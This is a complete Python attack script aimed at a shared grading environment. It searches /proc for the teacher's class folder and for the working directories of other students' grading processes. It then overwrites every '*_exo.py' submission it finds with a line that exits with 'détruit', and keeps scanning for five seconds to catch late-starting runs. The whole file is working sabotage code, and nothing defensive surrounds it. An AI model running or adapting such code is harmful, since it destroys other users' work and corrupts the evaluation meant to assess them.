"""Attack: rewrite the other students' programs, in the teacher's class folder and in the copies their
grading runs (the working folders of the programs the other grading processes started)."""

import os
import time

BROKEN = "raise SystemExit('détruit')\n"


def read(path):
    with open(path, "rb") as stream:
        return stream.read().decode(errors="replace")


def rewrite_programs(folder):
    for root, _, files in os.walk(folder):
        for name in files:
            if name.endswith("_exo.py"):
                try:
                    with open(os.path.join(root, name), "w") as target:
                        target.write(BROKEN)
                except OSError:
                    pass


pid, classes = os.getpid(), set()
while pid > 1:
    try:
        pid = int(read(f"/proc/{pid}/stat").rsplit(")", 1)[1].split()[1])
        argv = read(f"/proc/{pid}/cmdline").split("\0")
    except (OSError, ValueError, IndexError):
        break
    submissions = [arg for arg in argv if os.path.isfile(os.path.join(arg, "serveur_exo.py"))]
    classes.update(os.path.dirname(os.path.abspath(arg)) for arg in submissions)  # the class folder
for folder in classes:
    rewrite_programs(folder)
deadline = time.monotonic() + 5  # the other students' programs start a moment later: keep looking
while classes and time.monotonic() < deadline:
    workers = set()
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            if any(folder in read(f"/proc/{entry}/cmdline") for folder in classes):
                workers.add(entry)
        except OSError:
            continue
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            if read(f"/proc/{entry}/stat").rsplit(")", 1)[1].split()[1] in workers and int(entry) != os.getpid():
                rewrite_programs(os.readlink(f"/proc/{entry}/cwd"))
        except (OSError, IndexError):
            continue
    time.sleep(0.2)
